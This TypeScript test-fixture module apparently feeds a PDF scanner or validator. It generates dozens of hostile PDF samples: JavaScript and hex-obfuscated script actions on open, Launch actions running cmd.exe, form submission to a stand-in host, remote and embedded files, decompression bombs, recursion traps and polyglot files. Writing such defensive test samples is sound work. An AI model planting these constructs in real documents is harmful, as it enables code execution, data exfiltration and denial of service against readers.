import { deflateSync } from 'node:zlib';
import { PDFDocument, type PDFObject } from 'mupdf';
import { anObjectStream, aPdf } from '../builders/files.ts';
import { sample, type Sample } from './sample.ts';

const JS = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
/** A document as a real producer packs it (objects in compressed streams), with one thing `put` into it. */
export function packed(put: (document: PDFDocument, catalog: PDFObject) => void, options = 'objstms=yes,compress=yes'): Buffer {
  const document = new PDFDocument();
  document.insertPage(-1, document.addPage([0, 0, 595, 842], 0, document.newDictionary(), 'BT ET'));
  put(document, document.getTrailer().get('Root'));
  return Buffer.from(document.saveToBuffer(options).asUint8Array());
}
const dictionary = (document: PDFDocument, entries: Record<string, PDFObject>): PDFObject => {
  const made = document.newDictionary();
  for (const [key, value] of Object.entries(entries)) made.put(key, value);
  return made;
};
const script = (document: PDFDocument): PDFObject =>
  dictionary(document, { S: document.newName('JavaScript'), JS: document.newString('app.alert(1)') });
const action = (kind: string) => (document: PDFDocument, catalog: PDFObject) =>
  void catalog.put('OpenAction', document.addObject(dictionary(document, { S: document.newName(kind), F: document.newString('x') })));
const stream = (entries: string, content: Buffer | string): string =>
  `<< ${entries} /Length ${content.length} >>\nstream\n${Buffer.from(content).toString('latin1')}\nendstream`;
/** An incremental update: the older revision stays in the file under it. */
const updated = (first: Buffer, object: string): Buffer => {
  const at = first.length;
  const body = `1 0 obj\n${object}\nendobj\n`;
  const previous = /startxref\n(\d+)/.exec(first.toString('latin1'))?.[1] ?? '0';
  const xref = `xref\n1 1\n${String(at).padStart(10, '0')} 00000 n \ntrailer\n<< /Size 6 /Root 1 0 R /Prev ${previous} >>\nstartxref\n${at + body.length}\n%%EOF\n`;
  return Buffer.concat([first, Buffer.from(body + xref, 'latin1')]);
};
const replaced = (bytes: Buffer, from: string, to: string): Buffer => Buffer.from(bytes.toString('latin1').replace(from, to), 'latin1');
const CATALOG = '/Type /Catalog /Pages 2 0 R';

/** PDFs that act, hide, fetch, lie about what they are, or are made to exhaust whoever reads them. */
export function hostilePdfs(heavy: boolean): Sample[] {
  const pdf = (what: string, bytes: Buffer): Sample => sample(`PDF: ${what}`, 'attestation.pdf', bytes);
  const written = (what: string, object: string): Sample => pdf(what, aPdf({ objects: [object], catalog: '/Kept 6 0 R' }));
  const opening = (what: string, value: string): Sample => pdf(what, aPdf({ catalog: `/OpenAction ${value}` }));
  const zeros = heavy ? deflateSync(Buffer.alloc(400 * 1024 * 1024)) : deflateSync(Buffer.alloc(1024));
  const endless = 2_000;
  return [
    opening('script on opening', JS),
    opening('script named in codes', '<< /S /J#61vaScript /JS (x) >>'),
    opening('script named in codes all along', '<< /#53 /#4a#61#76#61#53#63#72#69#70#74 /#4a#53 (x) >>'),
    opening('script after going to a page', `<< /S /GoTo /D [3 0 R /Fit] /Next ${JS} >>`),
    opening('command to launch', '<< /S /Launch /F (cmd.exe) >>'),
    opening('command to launch, for Windows', '<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>'),
    opening('a web address on opening', '<< /S /URI /URI (https://piste.invalid/?vu) >>'),
    opening('sends a form on opening', '<< /S /SubmitForm /F (https://piste.invalid) >>'),
    opening('fetches data on opening', '<< /S /ImportData /F (a.fdf) >>'),
    opening('opens another file on opening', '<< /S /GoToR /F (\\\\\\\\serveur\\\\partage\\\\a.pdf) /D [0 /Fit] >>'),
    opening('opens an embedded file', '<< /S /GoToE /T << /R /C /N (a.pdf) >> >>'),
    opening('plays on opening', '<< /S /Rendition /OP 0 /JS (x) >>'),
    opening('a movie on opening', '<< /S /Movie /T (a) >>'),
    opening('a sound on opening', '<< /S /Sound /Sound 6 0 R >>'),
    pdf('script when the document closes', aPdf({ catalog: `/AA << /WC ${JS} >>` })),
    pdf('script in the names of the document', aPdf({ catalog: `/Names << /JavaScript << /Names [(a) ${JS}] >> >>` })),
    written('script behind a button', `<< /Type /Annot /Subtype /Widget /FT /Btn /T (b) /Rect [0 0 9 9] /A ${JS} >>`),
    written('script when a field is left', `<< /Type /Annot /Subtype /Widget /FT /Tx /T (b) /Rect [0 0 9 9] /AA << /Bl ${JS} >> >>`),
    written('script deep in arrays', `<< /X [[[[ << /Y [ ${JS} ] >> ]]]] >>`),
    written('script as a stream', stream('/S /JavaScript', 'app.alert(1)')),
    written('an attached file', stream('/Type /EmbeddedFile', 'MZ')),
    written('an attached file by its specification', '<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>'),
    written('an attachment on the page', '<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 7 0 R >>'),
    pdf('a list of attached files', aPdf({ catalog: '/Names << /EmbeddedFiles << /Names [(a) 7 0 R] >> >>' })),
    pdf('a portfolio', aPdf({ catalog: '/Collection << /Type /Collection /View /T >>' })),
    pdf('a dynamic form', aPdf({ catalog: '/AcroForm << /Fields [] /XFA [(template) 7 0 R] >>' })),
    written('a dynamic form as one stream', '<< /XFA 7 0 R >>'),
    written('rich media', '<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>'),
    written('rich media by its content', '<< /RichMediaContent << /Assets 7 0 R >> >>'),
    written('a 3D scene', '<< /Type /Annot /Subtype /3D /Rect [0 0 9 9] >>'),
    written('a screen', '<< /Type /Annot /Subtype /Screen /Rect [0 0 9 9] >>'),
    written('a page from another file', stream('/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F (b.pdf) /Page 0 >>', '')),
    written('a stream in another file', stream('/F (\\\\\\\\serveur\\\\a)', '')),
    written('PostScript', stream('/Type /XObject /Subtype /PS', 'quit')),
    pdf(
      'script in an object stream',
      packed((d, catalog) => void catalog.put('OpenAction', d.addObject(script(d)))),
    ),
    pdf('command to launch in an object stream', packed(action('Launch'))),
    pdf('sends a form, in an object stream', packed(action('SubmitForm'))),
    pdf('fetches data, in an object stream', packed(action('ImportData'))),
    pdf(
      'an attached file, by a real producer',
      packed((d) => d.insertEmbeddedFile('a', d.addEmbeddedFile('facture.xml', 'text/xml', '<x/>', new Date(0), new Date(0)))),
    ),
    pdf('script in an object stream that no table lists', aPdf({ objects: [anObjectStream(JS)] })),
    pdf('script in an object stream that does not say so', aPdf({ objects: [anObjectStream(JS, '/N 1 /First 4 /Filter /FlateDecode')] })),
    pdf('script added by an update', updated(aPdf(), `<< ${CATALOG} /OpenAction ${JS} >>`)),
    pdf('script hidden under an update', updated(aPdf({ catalog: `/OpenAction ${JS}` }), `<< ${CATALOG} >>`)),
    pdf(
      'locked by a password',
      packed(() => undefined, 'encrypt=aes-256,user-password=a,owner-password=b'),
    ),
    pdf(
      'locked by an old password',
      packed(() => undefined, 'encrypt=rc4-128,user-password=a,owner-password=b'),
    ),
    pdf(
      'locked, with a script inside',
      packed((d, c) => void c.put('OpenAction', d.addObject(script(d))), 'encrypt=aes-128,owner-password=b'),
    ),
    pdf('locked in a way of its own', aPdf({ objects: ['<< /Filter /Inconnu /V 9 >>'], trailer: '/Encrypt 6 0 R /ID [<00> <00>]' })),
    written('arrays in arrays, two hundred thousand deep', '['.repeat(200_000) + ']'.repeat(200_000)),
    written('dictionaries in dictionaries', `${'<< /A '.repeat(60_000)}1${' >>'.repeat(60_000)}`),
    pdf('a page tree that is its own child', replaced(aPdf(), '/Kids [3 0 R]', '/Kids [2 0 R]')),
    written('packed twice: kilobytes to gigabytes', stream('/Filter [/FlateDecode /FlateDecode]', deflateSync(zeros))),
    written(
      'packed five times',
      stream('/Filter [/FlateDecode /FlateDecode /FlateDecode /FlateDecode /FlateDecode]', deflateSync(deflateSync(zeros))),
    ),
    written(
      'a picture of a billion points',
      stream('/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /ColorSpace /DeviceGray /BitsPerComponent 8', ''),
    ),
    pdf('a page of a kilometre', replaced(aPdf(), '[0 0 595 842]', '[0 0 99999 99999]')),
    pdf('a table that points to itself', replaced(aPdf({ trailer: '/Prev 9' }), '/Prev 9 ', `/Prev ${aPdf().indexOf('xref\n')} `)),
    pdf(
      'fields that are their own parents',
      aPdf({ objects: Array.from({ length: endless }, (_, i) => `<< /Parent ${6 + ((i + 1) % endless)} 0 R /AA << /K ${JS} >> >>`) }),
    ),
    pdf('cut in half', aPdf().subarray(0, 350)),
    pdf('cut before its end', aPdf().subarray(0, -12)),
    pdf('only its first line', Buffer.from('%PDF-1.7\n')),
    pdf('with a program behind it', Buffer.concat([aPdf(), Buffer.from('MZ\u0090\0 program')])),
    pdf('with an archive behind it', Buffer.concat([aPdf(), Buffer.from('PK\u0003\u0004 archive')])),
    pdf('with a page of the web before it', Buffer.concat([Buffer.from('<html><script>x</script>'), aPdf()])),
    pdf('with another first line before it', Buffer.concat([Buffer.from('GIF89a'), aPdf()])),
    ...(heavy
      ? [
          written('a page that unpacks to 400 MB', stream('/Filter /FlateDecode', zeros)),
          pdf('more objects than a book', aPdf({ objects: Array.from({ length: 160_000 }, () => '0') })),
          pdf('more pages than anybody reads', manyPages(2_000)),
        ]
      : []),
  ];
}
const manyPages = (count: number): Buffer =>
  packed((document) => {
    for (let page = 0; page < count; page += 1)
      document.insertPage(-1, document.addPage([0, 0, 595, 842], 0, document.newDictionary(), ''));
  });
